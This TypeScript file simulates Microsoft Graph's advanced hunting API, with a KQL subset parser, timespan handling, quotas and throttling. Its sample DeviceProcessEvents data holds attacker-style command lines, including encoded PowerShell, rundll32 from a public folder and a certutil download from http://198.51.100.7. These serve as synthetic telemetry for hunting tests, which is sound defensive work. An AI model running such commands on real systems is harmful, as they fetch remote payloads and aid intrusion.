/**
 * Advanced hunting through Microsoft Graph (`POST /v1.0/security/runHuntingQuery`) for the
 * simulator, served by GraphSimulator on its https host. Modelled on Microsoft's documentation
 * (api/security-security-runhuntingquery.md, resources/security-api-overview.md, Defender XDR
 * advanced-hunting-limits.md and advanced-hunting-errors.md):
 *
 *  - body `{"Query": "<KQL>", "Timespan": "<ISO 8601>"}` (lower-case `query`/`timespan` too);
 *    Timespan forms `start/end`, `P30D/end`, `start/P30D`, `P30D`, a single start (to now);
 *    default and ceiling: the last 30 days;
 *  - per-table rows with `Timestamp` and an ingestion time: a row is visible once ingested, and
 *    `ingestion_time()` answers its ingestion time;
 *  - a KQL subset: `Table | where …` (and/or of comparisons on columns or ingestion_time(),
 *    `between`, `==`, `=~`, `!=`, `<`, `<=`, `>`, `>=`, `has`, `contains`), `extend X = ingestion_time()`,
 *    `project`, `take`/`limit`; anything else is a 400 with a syntax error, as Kusto's parser answers;
 *  - `schema` of `{Name, Type}` (`Int64`, `String`, `DateTime`, `Dynamic`, `Boolean`, `Real`) and
 *    `results` with DateTime values in ISO 8601 with 7 fractional digits;
 *  - the documented quotas: at most `rowCap` (100,000) rows, silently truncated; `callsPerMinute`
 *    (45) per tenant, beyond it 429 with Retry-After; a CPU budget per cycle (15 min), beyond it
 *    429 "You have exceeded processing resources allocated to this tenant. You can run queries
 *    again in hh:mm:ss." until the cycle ends; a query that runs longer than `timeoutMs` (3 min)
 *    fails with "Query exceeded the timeout period." (504, as Graph's gateway answers long hunts).
 *
 * Cost model: a query costs `msPerScannedRow` per row of its table inside its Timespan (what a
 * Timestamp filter saves Microsoft); that time is both the query's run time and its CPU use.
 */
import { randomUUID } from 'node:crypto';
import { ServiceError } from './serviceError.js';

export const HUNTING_ROLE = 'ThreatHunting.Read.All';
const THIRTY_DAYS_MS = 30 * 86_400_000;

export type ColumnType = 'String' | 'Int64' | 'Real' | 'DateTime' | 'Dynamic' | 'Boolean';

/** A stored row: its columns (Timestamp included) and when Microsoft ingested it. */
export interface HuntingRow {
  timestampMs: number;
  ingestedMs: number;
  columns: Record<string, unknown>;
}

export interface HuntingOptions {
  rowCap?: number;
  timeoutMs?: number;
  callsPerMinute?: number;
  /** The window the calls quota counts over; a minute, as documented (tests shorten it). */
  callsWindowMs?: number;
  /** CPU allowed per cycle, in simulated ms; Infinity by default. */
  cpuBudgetMs?: number;
  cpuCycleMs?: number;
  msPerScannedRow?: number;
  /** The clock rows are visible by; tests may move it. */
  now?: () => number;
}

export interface HuntingRequest {
  method: string;
  body: string;
  roles: string[];
  tenantId: string;
}

export interface HuntingReply {
  status: number;
  headers: Record<string, string>;
  body: string;
  /** How long the query "ran" before this answer (the caller waits it). */
  delayMs: number;
}

export interface HuntingCall {
  query: string;
  timespan?: string;
  status: number;
  rows: number;
  scanned: number;
}

class HuntingError extends ServiceError {}

export class HuntingApi {
  readonly tables = new Map<string, HuntingRow[]>();
  readonly types = new Map<string, Map<string, ColumnType>>();
  readonly calls: HuntingCall[] = [];
  rowCap: number;
  timeoutMs: number;
  callsPerMinute: number;
  callsWindowMs: number;
  cpuBudgetMs: number;
  cpuCycleMs: number;
  msPerScannedRow: number;
  now: () => number;
  private callTimes: number[] = [];
  private cpuUsed = 0;
  private cycleStart = 0;

  constructor(options: HuntingOptions = {}) {
    this.rowCap = options.rowCap ?? 100_000;
    this.timeoutMs = options.timeoutMs ?? 180_000;
    this.callsPerMinute = options.callsPerMinute ?? 45;
    this.callsWindowMs = options.callsWindowMs ?? 60_000;
    this.cpuBudgetMs = options.cpuBudgetMs ?? Infinity;
    this.cpuCycleMs = options.cpuCycleMs ?? 15 * 60_000;
    this.msPerScannedRow = options.msPerScannedRow ?? 0;
    this.now = options.now ?? Date.now;
    this.declareTables();
  }

  /** The standard tables exist (empty) from the start, with their columns where rows are generated here. */
  private declareTables(): void {
    for (const table of KNOWN_TABLES) this.types.set(table, new Map([['Timestamp', 'DateTime']]));
    const sample = processEvent(0, 0, new Date(0));
    this.types.set('DeviceProcessEvents', new Map(Object.keys(sample).filter((k) => k !== 'ingested').map((k) => [k, k === 'Timestamp' ? 'DateTime' : typeOf(sample[k])])));
  }

  /** Adds rows to a table. `Timestamp` (Date or ISO) is required; `ingested` defaults to the Timestamp plus a few seconds. */
  addRows(table: string, rows: ({ Timestamp: Date | string; ingested?: Date } & Record<string, unknown>)[]): HuntingRow[] {
    const stored = this.tables.get(table) ?? [];
    const types = this.types.get(table) ?? new Map<string, ColumnType>();
    const added: HuntingRow[] = [];
    for (const { ingested, ...input } of rows) {
      const timestampMs = new Date(input.Timestamp).getTime();
      const columns: Record<string, unknown> = {};
      for (const [name, value] of Object.entries(input)) {
        const type = name === 'Timestamp' || value instanceof Date ? 'DateTime' : typeOf(value);
        if (!types.has(name)) types.set(name, type);
        columns[name] = value instanceof Date || name === 'Timestamp' ? kustoDate(new Date(value as string | Date).getTime()) : value;
      }
      const row = { timestampMs, ingestedMs: ingested ? ingested.getTime() : timestampMs + 3_000, columns };
      stored.push(row);
      added.push(row);
    }
    this.tables.set(table, stored);
    this.types.set(table, types);
    return added;
  }

  /** Realistic DeviceProcessEvents rows spread over [fromMs, toMs), each ingested `delayMs` after its Timestamp. */
  addProcessEvents(n: number, fromMs: number, toMs: number, delayMs = 60_000): HuntingRow[] {
    const rows = Array.from({ length: n }, (_, i) => {
      const t = fromMs + Math.floor(((toMs - fromMs) * (i + 0.5)) / n);
      return processEvent(t, i, new Date(t + delayMs));
    });
    return this.addRows('DeviceProcessEvents', rows);
  }

  clear(): void {
    this.tables.clear();
    this.types.clear();
    this.declareTables();
    this.calls.length = 0;
    this.callTimes = [];
    this.cpuUsed = 0;
  }

  handle(request: HuntingRequest): HuntingReply {
    if (request.method !== 'POST') return errorReply(new HuntingError(405, 'MethodNotAllowed', `The HTTP method '${request.method}' is not allowed for the resource.`));
    if (!request.roles.includes(HUNTING_ROLE)) return errorReply(new HuntingError(403, 'Forbidden', `Missing application permissions: ${HUNTING_ROLE}`));
    const now = this.now();
    const throttled = this.throttle(now);
    if (throttled) return throttled;
    let body: Record<string, unknown>;
    try {
      body = JSON.parse(request.body) as Record<string, unknown>;
    } catch {
      return errorReply(new HuntingError(400, 'BadRequest', 'Unable to read JSON request payload. Please ensure Content-Type header is set and payload is of valid JSON format.'));
    }
    const query = (body.Query ?? body.query) as unknown;
    const timespan = (body.Timespan ?? body.timespan) as unknown;
    const call: HuntingCall = { query: String(query), timespan: typeof timespan === 'string' ? timespan : undefined, status: 0, rows: 0, scanned: 0 };
    this.calls.push(call);
    try {
      if (typeof query !== 'string' || !query.trim()) throw new HuntingError(400, 'BadRequest', "Required parameter 'Query' is missing or empty.");
      const window = parseTimespan(typeof timespan === 'string' ? timespan : undefined, now);
      const plan = parseQuery(query);
      const rows = this.tables.get(plan.table) ?? (this.types.has(plan.table) ? [] : undefined);
      if (!rows) throw new HuntingError(400, 'BadRequest', `Failed to resolve table or column expression named '${plan.table}'`);
      const floor = Math.max(window.start, now - THIRTY_DAYS_MS);
      const inSpan = rows.filter((r) => r.ingestedMs <= now && r.timestampMs >= floor && r.timestampMs <= window.end);
      call.scanned = inSpan.length;
      const runMs = inSpan.length * this.msPerScannedRow;
      this.cpuUsed += Math.min(runMs, this.timeoutMs);
      if (runMs > this.timeoutMs) {
        call.status = 504;
        return { ...errorReply(new HuntingError(504, 'GatewayTimeout', 'Query exceeded the timeout period.')), delayMs: this.timeoutMs };
      }
      const { columns, results } = execute(plan, inSpan, this.types.get(plan.table)!);
      const capped = results.slice(0, this.rowCap);
      call.status = 200;
      call.rows = capped.length;
      const schema = columns.map(([name, type]) => ({ Name: name, Type: type }));
      return {
        status: 200,
        headers: graphHeaders(),
        body: JSON.stringify({ '@odata.context': 'https://graph.microsoft.com/v1.0/$metadata#microsoft.graph.security.huntingQueryResults', schema, results: capped }),
        delayMs: runMs,
      };
    } catch (error) {
      if (!(error instanceof HuntingError)) throw error;
      call.status = error.status;
      return errorReply(error);
    }
  }

  /** The tenant used up its CPU allocation (in the portal, say): queries are refused for the next `forMs`. */
  exhaustCpu(forMs: number): void {
    const now = this.now();
    this.cpuBudgetMs = Math.min(this.cpuBudgetMs, 1);
    this.cpuCycleMs = forMs;
    this.cycleStart = now;
    this.cpuUsed = this.cpuBudgetMs;
  }

  /** Calls per minute (sliding), then the CPU budget of the current cycle. */
  private throttle(now: number): HuntingReply | undefined {
    this.callTimes = this.callTimes.filter((t) => t > now - this.callsWindowMs);
    if (this.callTimes.length >= this.callsPerMinute) {
      const waitS = Math.max(1, Math.ceil((this.callTimes[0]! + this.callsWindowMs - now) / 1000));
      return errorReply(new HuntingError(429, 'TooManyRequests', 'Too many requests. The number of calls has exceeded the allowed quota for this tenant.', { 'Retry-After': String(waitS) }));
    }
    this.callTimes.push(now);
    if (now >= this.cycleStart + this.cpuCycleMs) {
      this.cycleStart = now - ((now - this.cycleStart) % this.cpuCycleMs);
      this.cpuUsed = 0;
    }
    if (this.cpuUsed >= this.cpuBudgetMs) {
      const left = this.cycleStart + this.cpuCycleMs - now;
      return errorReply(new HuntingError(429, 'TooManyRequests', `You have exceeded processing resources allocated to this tenant. You can run queries again in ${hms(left)}.`));
    }
    return undefined;
  }
}

// ---------------------------------------------------------------------------------------
// KQL subset

interface Plan {
  table: string;
  steps: Step[];
}

type Operand = { column: string } | { ingestionTime: true };
type Literal = string | number | boolean | { date: number };
type Condition =
  | { kind: 'compare'; left: Operand; op: string; right: Literal }
  | { kind: 'between'; left: Operand; low: Literal; high: Literal }
  | { kind: 'and'; parts: Condition[] }
  | { kind: 'or'; parts: Condition[] };
type Step =
  | { kind: 'where'; condition: Condition }
  | { kind: 'extend'; name: string }
  | { kind: 'project'; columns: string[] }
  | { kind: 'take'; count: number };

const TOKEN = /\s*(datetime\([^)]*\)|ingestion_time\(\)|"(?:[^"\\]|\\.)*"|'(?:[^'\\]|\\.)*'|\.\.|==|!=|=~|!~|<=|>=|[|(),=<>]|[A-Za-z_][A-Za-z0-9_]*|-?\d+(?:\.\d+)?)/y;

function tokenize(query: string): { text: string; at: number }[] {
  const tokens: { text: string; at: number }[] = [];
  let at = 0;
  while (at < query.length) {
    if (/^\s*$/.test(query.slice(at))) break;
    TOKEN.lastIndex = at;
    const match = TOKEN.exec(query);
    if (!match) throw syntaxError(query, query.slice(at).trim().split(/\s+/)[0] ?? '', at);
    tokens.push({ text: match[1]!, at: at + match[0].indexOf(match[1]!) });
    at = TOKEN.lastIndex;
  }
  return tokens;
}

function syntaxError(query: string, token: string, at: number): HuntingError {
  const line = query.slice(0, at).split('\n').length;
  const column = at - query.lastIndexOf('\n', at - 1);
  return new HuntingError(400, 'BadRequest', `Query could not be parsed at '${token}' on line [${line},${column}]`);
}

export function parseQuery(query: string): Plan {
  const tokens = tokenize(query);
  let i = 0;
  const peek = () => tokens[i]?.text;
  const fail = (): never => {
    const token = tokens[i] ?? { text: '<end of query>', at: query.length };
    throw syntaxError(query, token.text, token.at);
  };
  const expect = (text: string) => (peek()?.toLowerCase() === text ? tokens[i++] : fail());
  const identifier = () => (/^[A-Za-z_]\w*$/.test(peek() ?? '') ? tokens[i++]!.text : fail());
  const table = identifier();
  const steps: Step[] = [];
  const operand = (): Operand => (peek() === 'ingestion_time()' ? (i++, { ingestionTime: true }) : { column: identifier() });
  const literal = (): Literal => {
    const text = peek() ?? fail();
    i++;
    if (/^datetime\(/i.test(text)) {
      const inner = text.slice(9, -1).trim();
      const ms = Date.parse(inner);
      if (!Number.isFinite(ms)) throw new HuntingError(400, 'BadRequest', `Failed to parse datetime literal '${inner}'`);
      return { date: ms };
    }
    if (/^["']/.test(text)) return text.slice(1, -1).replace(/\\(.)/g, '$1');
    if (/^-?\d/.test(text)) return Number(text);
    if (text === 'true' || text === 'false') return text === 'true';
    i--;
    return fail();
  };
  const comparison = (): Condition => {
    if (peek() === '(') {
      i++;
      const inner = disjunction();
      expect(')');
      return inner;
    }
    const left = operand();
    const op = peek()?.toLowerCase();
    if (op === 'between') {
      i++;
      expect('(');
      const low = literal();
      expect('..');
      const high = literal();
      expect(')');
      return { kind: 'between', left, low, high };
    }
    if (!op || !['==', '!=', '=~', '!~', '<', '<=', '>', '>=', 'has', 'contains'].includes(op)) fail();
    i++;
    return { kind: 'compare', left, op: op!, right: literal() };
  };
  const conjunction = (): Condition => {
    const parts = [comparison()];
    while (peek()?.toLowerCase() === 'and') {
      i++;
      parts.push(comparison());
    }
    return parts.length === 1 ? parts[0]! : { kind: 'and' as const, parts };
  };
  const disjunction = (): Condition => {
    const parts = [conjunction()];
    while (peek()?.toLowerCase() === 'or') {
      i++;
      parts.push(conjunction());
    }
    return parts.length === 1 ? parts[0]! : { kind: 'or' as const, parts };
  };
  while (i < tokens.length) {
    expect('|');
    const op = peek()?.toLowerCase();
    if (op === 'where') {
      i++;
      steps.push({ kind: 'where', condition: disjunction() });
    } else if (op === 'extend') {
      i++;
      const name = identifier();
      expect('=');
      if (peek() !== 'ingestion_time()') fail();
      i++;
      steps.push({ kind: 'extend', name });
    } else if (op === 'project') {
      i++;
      const columns = [identifier()];
      while (peek() === ',') {
        i++;
        columns.push(identifier());
      }
      steps.push({ kind: 'project', columns });
    } else if (op === 'take' || op === 'limit') {
      i++;
      const count = literal();
      if (typeof count !== 'number') fail();
      steps.push({ kind: 'take', count: count as number });
    } else {
      fail();
    }
  }
  return { table, steps };
}

interface Working {
  row: HuntingRow;
  out: Record<string, unknown>;
}

function execute(plan: Plan, rows: HuntingRow[], tableTypes: Map<string, ColumnType>): { columns: [string, ColumnType][]; results: Record<string, unknown>[] } {
  let columns: [string, ColumnType][] = [...tableTypes.entries()];
  let working: Working[] = rows.map((row) => ({ row, out: { ...row.columns } }));
  const has = (name: string) => columns.some(([c]) => c === name);
  for (const step of plan.steps) {
    if (step.kind === 'where') {
      checkColumns(step.condition, has);
      working = working.filter((w) => holds(step.condition, w));
    } else if (step.kind === 'extend') {
      for (const w of working) w.out[step.name] = kustoDate(w.row.ingestedMs);
      columns = [...columns.filter(([c]) => c !== step.name), [step.name, 'DateTime']];
    } else if (step.kind === 'project') {
      for (const c of step.columns) if (!has(c)) throw new HuntingError(400, 'BadRequest', `'project' operator: Failed to resolve scalar expression named '${c}'`);
      columns = step.columns.map((c) => columns.find(([name]) => name === c)!);
      working = working.map((w) => ({ row: w.row, out: Object.fromEntries(step.columns.map((c) => [c, w.out[c]])) }));
    } else {
      working = working.slice(0, step.count);
    }
  }
  return { columns, results: working.map((w) => Object.fromEntries(columns.map(([c]) => [c, w.out[c] ?? null]))) };
}

function checkColumns(condition: Condition, has: (name: string) => boolean): void {
  if (condition.kind === 'and' || condition.kind === 'or') {
    for (const part of condition.parts) checkColumns(part, has);
    return;
  }
  if ('column' in condition.left && !has(condition.left.column)) {
    throw new HuntingError(400, 'BadRequest', `'where' operator: Failed to resolve column or scalar expression named '${condition.left.column}'`);
  }
}

function value(operand: Operand, w: Working): unknown {
  if ('ingestionTime' in operand) return w.row.ingestedMs;
  const v = w.out[operand.column];
  if (typeof v === 'string' && /^\d{4}-\d\d-\d\dT[\d:.]+Z$/.test(v)) return Date.parse(v);
  return v;
}

function literalValue(l: Literal): unknown {
  return typeof l === 'object' ? l.date : l;
}

function holds(condition: Condition, w: Working): boolean {
  if (condition.kind === 'and' || condition.kind === 'or') {
    return condition.kind === 'and' ? condition.parts.every((p) => holds(p, w)) : condition.parts.some((p) => holds(p, w));
  }
  const left = value(condition.left, w);
  if (condition.kind === 'between') {
    const low = literalValue(condition.low) as number;
    const high = literalValue(condition.high) as number;
    return typeof left === 'number' && left >= low && left <= high;
  }
  const right = literalValue(condition.right);
  switch (condition.op) {
    case '==': return left === right;
    case '!=': return left !== right;
    case '=~': return String(left).toLowerCase() === String(right).toLowerCase();
    case '!~': return String(left).toLowerCase() !== String(right).toLowerCase();
    case 'has':
    case 'contains': return String(left).toLowerCase().includes(String(right).toLowerCase());
    case '<': return (left as number) < (right as number);
    case '<=': return (left as number) <= (right as number);
    case '>': return (left as number) > (right as number);
    default: return (left as number) >= (right as number);
  }
}

// ---------------------------------------------------------------------------------------
// Helpers

const DURATION = /^P(?:(\d+)D)?(?:T(?:(\d+)H)?(?:(\d+)M)?(?:(\d+(?:\.\d+)?)S)?)?$/i;

function durationMs(text: string): number | undefined {
  const m = DURATION.exec(text);
  if (!m || text.toUpperCase() === 'P' || text.toUpperCase().endsWith('T')) return undefined;
  return ((Number(m[1] ?? 0) * 24 + Number(m[2] ?? 0)) * 60 + Number(m[3] ?? 0)) * 60_000 + Number(m[4] ?? 0) * 1000;
}

/** Timespan forms of the docs; none means the last 30 days. */
export function parseTimespan(timespan: string | undefined, now: number): { start: number; end: number } {
  if (!timespan) return { start: now - THIRTY_DAYS_MS, end: now };
  const bad = () => new HuntingError(400, 'BadRequest', `The Timespan '${timespan}' is not a valid ISO 8601 time interval.`);
  const parts = timespan.split('/');
  if (parts.length > 2) throw bad();
  const point = (t: string) => {
    const ms = Date.parse(t);
    if (!Number.isFinite(ms)) throw bad();
    return ms;
  };
  if (parts.length === 1) {
    const d = durationMs(parts[0]!);
    return d !== undefined ? { start: now - d, end: now } : { start: point(parts[0]!), end: now };
  }
  const [a, b] = parts as [string, string];
  const da = durationMs(a);
  const db = durationMs(b);
  if (da !== undefined && db !== undefined) throw bad();
  if (da !== undefined) return { start: point(b) - da, end: point(b) };
  if (db !== undefined) return { start: point(a), end: point(a) + db };
  return { start: point(a), end: point(b) };
}

/** ISO 8601 with 7 fractional digits, as Kusto writes DateTime. */
export function kustoDate(ms: number): string {
  return new Date(ms).toISOString().replace(/\.(\d{3})Z$/, '.$10000Z');
}

function typeOf(value: unknown): ColumnType {
  if (typeof value === 'number') return Number.isInteger(value) ? 'Int64' : 'Real';
  if (typeof value === 'boolean') return 'Boolean';
  if (value !== null && typeof value === 'object') return 'Dynamic';
  return 'String';
}

function hms(ms: number): string {
  const s = Math.max(1, Math.ceil(ms / 1000));
  return [Math.floor(s / 3600), Math.floor((s % 3600) / 60), s % 60].map((n) => String(n).padStart(2, '0')).join(':');
}

function graphHeaders(): Record<string, string> {
  const id = randomUUID();
  return { 'Content-Type': 'application/json;odata.metadata=minimal;odata.streaming=true;IEEE754Compatible=false;charset=utf-8', 'request-id': id, 'client-request-id': id };
}

function errorReply(error: HuntingError): HuntingReply {
  const id = randomUUID();
  const body = { error: { code: error.code, message: error.message, innerError: { date: new Date().toISOString().slice(0, 19), 'request-id': id, 'client-request-id': id } } };
  return { status: error.status, headers: { 'Content-Type': 'application/json', 'request-id': id, 'client-request-id': id, ...error.headers }, body: JSON.stringify(body), delayMs: 0 };
}

const KNOWN_TABLES = [
  'AlertEvidence', 'AlertInfo', 'CloudAppEvents', 'DeviceEvents', 'DeviceFileCertificateInfo', 'DeviceFileEvents', 'DeviceImageLoadEvents',
  'DeviceInfo', 'DeviceLogonEvents', 'DeviceNetworkEvents', 'DeviceNetworkInfo', 'DeviceProcessEvents', 'DeviceRegistryEvents',
  'EmailAttachmentInfo', 'EmailEvents', 'EmailPostDeliveryEvents', 'EmailUrlInfo', 'IdentityDirectoryEvents', 'IdentityLogonEvents',
  'IdentityQueryEvents', 'UrlClickEvents',
];

const DEVICES = ['ws-0142.contoso.com', 'ws-0217.contoso.com', 'srv-sql01.contoso.com', 'lt-ana.contoso.com'];
const PROCESSES: [string, string][] = [
  ['powershell.exe', 'powershell.exe -NoProfile -EncodedCommand SQBFAFgA'],
  ['cmd.exe', 'cmd.exe /c whoami /all'],
  ['rundll32.exe', 'rundll32.exe C:\\Users\\Public\\x.dll,Start'],
  ['certutil.exe', 'certutil.exe -urlcache -f http://198.51.100.7/a.txt a.txt'],
];

function processEvent(t: number, i: number, ingested: Date): { Timestamp: Date; ingested: Date } & Record<string, unknown> {
  const [fileName, commandLine] = PROCESSES[i % PROCESSES.length]!;
  return {
    Timestamp: new Date(t),
    ingested,
    DeviceId: `d${(i % DEVICES.length).toString().padStart(39, '0')}`,
    DeviceName: DEVICES[i % DEVICES.length]!,
    ActionType: 'ProcessCreated',
    FileName: fileName,
    FolderPath: `C:\\Windows\\System32\\${fileName}`,
    SHA256: (i * 2654435761 >>> 0).toString(16).padStart(64, 'a'),
    ProcessId: 4000 + (i % 5000),
    ProcessCommandLine: commandLine,
    AccountName: i % 3 ? 'ana' : 'svc_backup',
    AccountDomain: 'contoso',
    InitiatingProcessFileName: 'explorer.exe',
    InitiatingProcessId: 1200 + (i % 100),
    ReportId: 10_000 + i,
    AdditionalFields: { integrity: i % 2 ? 'High' : 'Medium' },
  };
}
